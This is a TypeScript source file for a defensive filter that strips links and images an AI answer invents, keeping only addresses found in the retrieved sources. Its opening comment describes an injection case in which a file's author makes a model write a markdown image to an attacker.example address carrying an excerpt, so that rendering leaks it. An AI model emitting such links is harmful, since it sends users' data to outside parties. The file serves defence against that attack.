// Removes the links and images of an answer that no source contains, while it is written. The author of a file can make a model write
// `![](https://attacker.example/?q=EXCERPT)`, and a program that renders the answer then sends the excerpt there.
//
// Renderers differ, so the filter does not parse Markdown. It splits everything that any renderer reads as a link: `](`, `]:`, `<tag`, and
// addresses without markup. Each construct is decided where it begins, from the text alone, so the pieces of a stream make no difference.
import type { Excerpt } from './excerpt.js';

/** An open construct that is longer is split. */
const OPEN_CHARACTERS_MAX = 2_000;
const ADDRESS = /^(?:https?:\/\/|ftp:\/\/|www\.|mailto:)/i;
const ADDRESS_STARTS = ['http://', 'https://', 'ftp://', 'www.', 'mailto:'];
const LETTER_OR_DIGIT = /[\p{L}\p{N}]$/u;
const SCHEME_BEFORE = /[a-z][a-z0-9+.-]*$/i;
/** Without its brackets, a nested label is text. */
const IMAGE = /^!\[[^[\]]*\](\((?:[^()]|\([^()]*\))*\))/;
const OPEN_IMAGE = /^!\[[^[\]]*(?:\](?:\((?:[^()]|\([^()]*\))*(?:\([^()]*)?)?)?$/;
const BRACKET = /^!\[[^[\]]*\]$/;
const TARGET = /^\((?:[^()]|\([^()]*\))*\)/;
const OPEN_TARGET = /^\((?:[^()]|\([^()]*\))*(?:\([^()]*)?$/;
/** An address, and a title if there is one. Other parentheses after a bracket are text. */
const ONLY_ADDRESS = /^\(\s*(?:<[^<>]*>|\S*)\s*(?:"[^"]*"|'[^']*'|\([^()]*\))?\s*\)$/;
const AUTOLINK = /^<([a-z][a-z0-9+.-]*:[^\s<>]*)>/i;
const OPEN_AUTOLINK = /^<(?:[a-z][a-z0-9+.-]*(?::[^\s<>]*)?)?$/i;
const TRAILING_PUNCTUATION = /[.,;:!?'">)\]}*_~`]+$/;
const ASCII = /^[\x21-\x7e]+/;
const WORD = /^[\p{L}\p{N}]+|^./su;

/** The next `take` characters are replaced by `show`. Null when the following text decides. */
type Step = { take: number; show: string } | null;

export class LinkFilter {
  private held = '';
  /** The end of the shown text. */
  private shownEnd = '';

  constructor(private readonly sources: SourceAddresses) {}

  /** Returns the text that can be shown after this piece. */
  add(piece: string): string {
    this.held += piece;
    return this.take(false);
  }

  /** Returns the rest of the answer. */
  end(): string {
    return this.take(true);
  }

  private take(isLast: boolean): string {
    let shown = '';
    for (let at = 0; ;) {
      const rest = this.held.slice(at, at + OPEN_CHARACTERS_MAX + 1);
      const step = rest === '' ? null : this.stepAt(rest, isLast || rest.length > OPEN_CHARACTERS_MAX);
      if (step === null) {
        this.held = this.held.slice(at);
        return shown;
      }
      shown += step.show;
      this.shownEnd = (this.shownEnd + step.show).slice(-OPEN_CHARACTERS_MAX);
      at += step.take;
    }
  }

  private stepAt(rest: string, mustDecide: boolean): Step {
    switch (rest.charAt(0)) {
      case '!':
        return this.image(rest, mustDecide);
      case '(':
        return this.shownEnd.endsWith(']') ? this.target(rest, mustDecide) : keep(rest);
      case '<':
        return this.tag(rest, mustDecide);
      case ':':
        // Without this, `[label]: address` would define a link.
        if (this.shownEnd.endsWith(']')) return { take: 1, show: ' :' };
        return this.otherScheme(rest, mustDecide);
      default:
        return this.address(rest, mustDecide);
    }
  }

  private image(rest: string, mustDecide: boolean): Step {
    if (rest === '!' && !mustDecide) return null;
    if (!rest.startsWith('![')) return keep(rest);
    const [image, target = ''] = IMAGE.exec(rest) ?? [];
    if (image !== undefined) {
      if (this.isKnown(target)) return { take: image.length, show: image };
      // The text around the image must not be joined to a link.
      return { take: image.length, show: /(?:^|\s)$/.test(this.shownEnd) ? '' : ' ' };
    }
    if (!OPEN_IMAGE.test(rest)) return keep(rest);
    if (!mustDecide) return null;
    return BRACKET.test(rest) ? keep(rest) : { take: 1, show: '! ' };
  }

  /** The parentheses after a bracket. */
  private target(rest: string, mustDecide: boolean): Step {
    const [target] = TARGET.exec(rest) ?? [];
    if (target === undefined) return !mustDecide && OPEN_TARGET.test(rest) ? null : { take: 1, show: ' (' };
    if (this.isKnown(target)) return { take: target.length, show: target };
    return ONLY_ADDRESS.test(target) ? { take: target.length, show: '' } : { take: 1, show: ' (' };
  }

  private tag(rest: string, mustDecide: boolean): Step {
    const [autolink, address = ''] = AUTOLINK.exec(rest) ?? [];
    if (autolink !== undefined) return { take: autolink.length, show: this.sources.contain(address) ? autolink : ' ' };
    if (!mustDecide && OPEN_AUTOLINK.test(rest)) return null;
    return /^<[a-z!?/]/i.test(rest) ? { take: 1, show: '< ' } : keep(rest);
  }

  /** An address of another scheme, whose scheme has been shown already. */
  private otherScheme(rest: string, mustDecide: boolean): Step {
    if (!mustDecide && '://'.startsWith(rest) && rest !== '://') return null;
    const [scheme] = SCHEME_BEFORE.exec(this.shownEnd) ?? [];
    return rest.startsWith('://') && scheme !== undefined ? this.bareAddress(rest, scheme, mustDecide) : keep(rest);
  }

  private address(rest: string, mustDecide: boolean): Step {
    if (LETTER_OR_DIGIT.test(this.shownEnd)) return keep(rest);
    if (ADDRESS.test(rest)) return this.bareAddress(rest, '', mustDecide);
    const start = rest.toLowerCase();
    return !mustDecide && ADDRESS_STARTS.some((known) => known.startsWith(start)) ? null : keep(rest);
  }

  /** An address extends to white space, whatever part of it a renderer would take. */
  private bareAddress(rest: string, scheme: string, mustDecide: boolean): Step {
    const [whole = ''] = /^(?:(?!\]\()[^\s<])+/.exec(rest) ?? [];
    if (whole.length === rest.length && !mustDecide) return null;
    if (this.isKnownBefore(scheme, whole)) return { take: whole.length, show: whole };
    // The characters that follow in a script without spaces are text.
    const [ascii = ''] = ASCII.exec(whole) ?? [];
    if (this.isKnownBefore(scheme, ascii)) return { take: ascii.length, show: `${ascii} ` };
    return { take: ascii.replace(TRAILING_PUNCTUATION, '').length, show: '' };
  }

  /** Punctuation after an address is text. */
  private isKnownBefore(scheme: string, text: string): boolean {
    for (let address = text; address !== ''; address = address.slice(0, -1)) {
      if (this.sources.contain(scheme + address)) return true;
      if (!TRAILING_PUNCTUATION.test(address)) return false;
    }
    return false;
  }

  private isKnown(target: string): boolean {
    const inner = target.slice(1, -1).trim();
    const address = inner.startsWith('<') ? inner.slice(1, inner.indexOf('>')) : inner.split(/\s/, 1)[0];
    return address !== undefined && this.sources.contain(address);
  }
}

/** Returns a text that is complete without the links that no source contains. */
export function withoutUnknownLinks(text: string, sources: SourceAddresses): string {
  const links = new LinkFilter(sources);
  return links.add(text) + links.end();
}

function keep(rest: string): { take: number; show: string } {
  const [show = ''] = WORD.exec(rest) ?? [];
  return { take: show.length, show };
}

/** Markdown writes `a\_b` and `&amp;` where its reader sees `a_b` and `&`. */
const ESCAPED = /\\([!-/:-@[-`{-~])/g;
const BEFORE = /[\p{L}\p{N}]/u;
const AFTER = /[\s<>"'`)\]}|\\.,;:!?*_~\u0080-\uffff]/;

/** The addresses that the sources of an answer contain. */
export class SourceAddresses {
  private readonly text: string;

  /** The caller has written `others`, such as its schema or the conversation. */
  constructor(excerpts: readonly Pick<Excerpt, 'text' | 'filename' | 'headings'>[], others: readonly string[] = []) {
    const sources = excerpts.flatMap(({ text, filename, headings }) => [text, filename, ...headings]);
    const written = [...sources, ...others].join('\n');
    this.text = `${written}\n${written.replace(ESCAPED, '$1').replaceAll('&amp;', '&')}\n`;
  }

  /** Whether a source contains exactly this address. */
  contain(address: string): boolean {
    if (address === '') return false;
    for (let at = this.text.indexOf(address); at >= 0; at = this.text.indexOf(address, at + 1)) {
      const isStart = at === 0 || !BEFORE.test(this.text.charAt(at - 1));
      if (isStart && AFTER.test(this.text.charAt(at + address.length))) return true;
    }
    return false;
  }
}
